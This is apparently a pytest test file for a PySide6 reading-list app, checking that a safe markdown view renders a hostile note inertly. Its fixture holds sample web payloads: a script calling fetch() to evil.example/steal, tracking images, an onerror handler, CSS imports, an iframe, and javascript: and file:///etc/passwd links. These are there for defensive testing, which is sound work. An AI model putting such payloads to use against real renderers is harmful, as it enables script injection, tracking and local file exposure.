"""A hostile note renders inert: no script, nothing fetched, links opened only on a click."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from PySide6.QtCore import QObject, QUrl, Slot
from PySide6.QtGui import QDesktopServices

from readinglist.gui.widgets import SafeMarkdownView

HOSTILE_NOTE = """\
# Notes <script>document.title = 'pwned'; fetch('https://evil.example/steal')</script>

![tracker](https://evil.example/pixel.png)
<img src="http://evil.example/img.gif" onerror="alert(1)">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css");
p { background: url(//evil.example/bg.png) }</style>
<iframe src="https://evil.example/frame"></iframe>
<p style="background-image: url('https://evil.example/inline.png')">styled</p>

[a normal link](https://example.org/paper) and [a script link](javascript:alert(1))
and [a local file](file:///etc/passwd) and <a href="https://evil.example/auto">auto</a>.
"""


class RecordingView(SafeMarkdownView):
    """The real view, noting every resource the document asks for and what it got."""

    def __init__(self) -> None:
        super().__init__()
        self.requests: list[tuple[str, object]] = []

    def loadResource(self, kind: int, url: QUrl) -> object:
        result = super().loadResource(kind, url)
        self.requests.append((url.toString(), result))
        return result


class UrlCatcher(QObject):
    """Takes the place of the system browser for the test: what would have been opened."""

    def __init__(self) -> None:
        super().__init__()
        self.opened: list[str] = []

    @Slot(QUrl)
    def open(self, url: QUrl) -> None:
        self.opened.append(url.toString())


@pytest.fixture
def browser() -> Iterator[UrlCatcher]:
    catcher = UrlCatcher()
    schemes = ("http", "https", "mailto", "file", "javascript")
    for scheme in schemes:
        QDesktopServices.setUrlHandler(scheme, catcher, "open")
    yield catcher
    for scheme in schemes:
        QDesktopServices.unsetUrlHandler(scheme)


def test_rendering_a_hostile_note_fetches_nothing_and_opens_nothing(
    qtbot, browser: UrlCatcher
) -> None:
    view = RecordingView()
    qtbot.addWidget(view)
    view.set_markdown(HOSTILE_NOTE)
    view.show()
    qtbot.waitExposed(view)
    view.grab()  # paint it: images and backgrounds are requested while painting
    remote = [(u, r) for u, r in view.requests if "evil.example" in u]
    # The note did ask for remote images (so this checks something), and got none.
    assert remote
    assert all(result is None for _, result in remote), remote
    assert browser.opened == []
    assert "Notes" in view.toPlainText()
    assert view.window().windowTitle() != "pwned"


def test_links_open_in_the_browser_only_when_clicked_and_only_web_ones(
    qtbot, browser: UrlCatcher
) -> None:
    view = RecordingView()
    qtbot.addWidget(view)
    view.set_markdown(HOSTILE_NOTE)
    assert browser.opened == []
    for link in (
        "https://example.org/paper",
        "javascript:alert(1)",
        "file:///etc/passwd",
    ):
        view.anchorClicked.emit(QUrl(link))
    assert browser.opened == ["https://example.org/paper"]
    # The view itself never navigates away from the note.
    assert view.source().isEmpty() and "Notes" in view.toPlainText()


def test_raw_html_in_a_note_is_shown_as_text_not_interpreted(qtbot) -> None:
    view = SafeMarkdownView()
    qtbot.addWidget(view)
    view.set_markdown(HOSTILE_NOTE)
    text = view.toPlainText()
    assert "<script>" in text and "a normal link" in text and "auto" in text
